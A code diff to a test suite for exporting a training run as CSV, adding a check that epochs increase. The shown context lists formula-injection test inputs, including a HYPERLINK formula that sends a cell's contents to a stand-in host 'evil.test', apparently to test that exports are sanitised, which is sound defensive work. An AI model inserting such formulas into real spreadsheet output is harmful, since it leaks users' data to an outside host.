@@ -180,6 +180,8 @@ describe('a run as CSV', () => {
       expect([loss, ...parameters]).toEqual([state.loss, ...state.weights, state.bias]);
     }
     expect(body.at(-1)![0]).toBe(500);
+    // one line an epoch
+    expect(body.every(([epoch], i) => i === 0 || epoch! > body[i - 1]![0]!)).toBe(true);
   });
 
   it.each(['=HYPERLINK("http://evil.test?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1'])(
